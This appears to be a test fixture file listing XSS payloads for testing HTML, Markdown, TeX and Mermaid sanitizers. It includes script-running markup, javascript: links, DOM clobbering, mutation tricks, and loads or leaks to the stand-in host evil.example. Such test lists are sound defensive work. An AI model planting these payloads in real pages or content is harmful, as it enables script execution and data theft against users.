// Texts that would run a script, leave the page or take over its names if any place showed them as HTML: the kinds of public
// lists (mutations, clobbering, addresses, styles), and what Markdown, TeX and Mermaid add. `alert` and evil.example are watched.

const OUT = 'https://evil.example'

const HTML = [
  '<script>alert(1)</script>',
  `<script src="${OUT}/a.js"></script>`,
  '<img src=x onerror=alert(1)>',
  `<img src="${OUT}/a.png" srcset="${OUT}/b.png 2x">`,
  "<img src=x id/=' onerror=alert(1)//'>",
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  `<svg><image href="${OUT}/i.svg"/><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/></svg>`,
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>link in a drawing</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><!--</textarea><img src=x onerror=alert(1)>-->',
  '<listing>&lt;img onerror="alert(1);//" src=x&gt;<t t></listing>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?><root/>',
  '<b><style><style/><img src=x onerror=alert(1)>',
  `<style>@import url(${OUT}/a.css); * { background: url(${OUT}/b.png); display: none }</style>`,
  `<link rel=stylesheet href="${OUT}/c.css"><link rel=prefetch href="${OUT}/d"><link rel=dns-prefetch href="//evil.example">`,
  `<base href="${OUT}/">`,
  `<meta http-equiv=refresh content="0; url=${OUT}">`,
  `<iframe src="${OUT}"></iframe>`,
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="javascript:alert(1)">',
  `<form action="${OUT}" id=location><input name=attributes autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">Send the form</button></form>`,
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  `<video src="${OUT}/v" poster="${OUT}/p" onerror=alert(1) autoplay></video><audio src=x onerror=alert(1)></audio>`,
  '<marquee onstart=alert(1)>x</marquee><div style="animation: x" onanimationstart=alert(1)>x</div>',
  '<a href="javascript:alert(1)" autofocus onfocus=alert(1) tabindex=1>x</a>',
  '<a href="\u0001java\u0003script:alert(1)">x</a><a href="\u2028javascript:alert(1)">x</a>',
  '<img name=cookie><img name=createElement><form id=document><input name=body></form>',
  '<a id=defaultView href="x"></a><a id=config></a><a id=config name=url href="//evil.example">x</a>',
  '<isindex action=javascript:alert(1) type=image><keygen autofocus onfocus=alert(1)>',
  `<table background="${OUT}/t.png"><td style="background: url(${OUT}/u.png)">x</td></table>`,
  '</article></main></div></body><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)><"',
  '\';alert(1)//";alert(1)//--></script>',
  '{{constructor.constructor("alert(1)")()}}${alert(1)}',
]

const MARKDOWN = [
  '[a link](javascript:alert(1))',
  '[a link](JaVaScRiPt:alert(1) "title")',
  '[a link](java&Tab;script&colon;alert(1))',
  '[a link](&#x6A&#x61vascript:alert(1))',
  '[a link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a link](vbscript:alert(1)) <javascript:alert(1)> [x](blob:https://evil.example/1)',
  '[x][a] and ![y][b]\n\n[a]: javascript:alert(1)\n[b]: https://evil.example/y.png',
  `![picture](${OUT}/?secret) ![picture](//evil.example/p.png) ![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
  `[![x](${OUT}/q.png)](javascript:alert(1))`,
  '![x" onerror="alert(1)](a.png "t\\" onerror=\\"alert(1)")',
  'https://example.com/"onmouseover="alert(1) and <https://example.com/"onclick="alert(1)>',
  'A note[^constructor] and[^x"onclick="alert(1)].\n\n[^constructor]: <img src=x onerror=alert(1)>\n[^x"onclick="alert(1)]: [z](javascript:alert(1))',
  '# <img src=x onerror=alert(1)> {#location}\n\n## document\n\n### createElement',
  '| <svg onload=alert(1)> | b |\n| --- | --- |\n| x<br onload=alert(1)>y | [z](javascript:alert(1)) |',
  '- [x] <input autofocus onfocus=alert(1)>\n- [ ] <style>*{display:none}</style>',
  '```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```',
  '```"><img/src=x/onerror=alert(1)>\nx\n```\n\n~~~__proto__\nx\n~~~',
  '```svg\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>\n```',
]

const TEX_AND_DIAGRAMS = [
  '$$\\href{javascript:alert(1)}{x} \\url{javascript:alert(1)} \\includegraphics{https://evil.example/t.png}$$',
  '$$\\htmlId{location}{x} \\htmlClass{a}{x} \\htmlStyle{background:url(//evil.example)}{x} \\htmlData{a=b}{x}$$',
  '$\\text{<img src=x onerror=alert(1)>} \\def\\x{\\x\\x}\\x$ and $\\unicode{<script>alert(1)</script>}$',
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]-->B["<iframe srcdoc=\'<script>parent.alert(1)</script>\'>"]; click A "javascript:alert(1)"; click B call alert(1)\n```',
  `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "* { background: url(${OUT}/m.png) } @import url(${OUT}/m.css);", "fontFamily": "x; } * { display: none } </style><script>alert(1)</script>"}}%%\ngraph LR; A-->B\n\`\`\``,
  `\`\`\`mermaid\ngraph TD; A@{ img: "${OUT}/n.png", label: "x" }-->B; style B fill:url(${OUT}/o.png)\n\`\`\``,
  '```mermaid\nsequenceDiagram\n  participant A as <script>alert(1)</script>\n  link A: Home @ javascript:alert(1)\n  A->>A: $$\\href{javascript:alert(1)}{x}$$\n```',
]

export const HOSTILE_TEXTS: readonly string[] = [...HTML, ...MARKDOWN, ...TEX_AND_DIAGRAMS]

/** For names, which are one line. */
export const HOSTILE_NAMES: readonly string[] = HTML.filter((text) => text.length < 100).slice(0, 12)
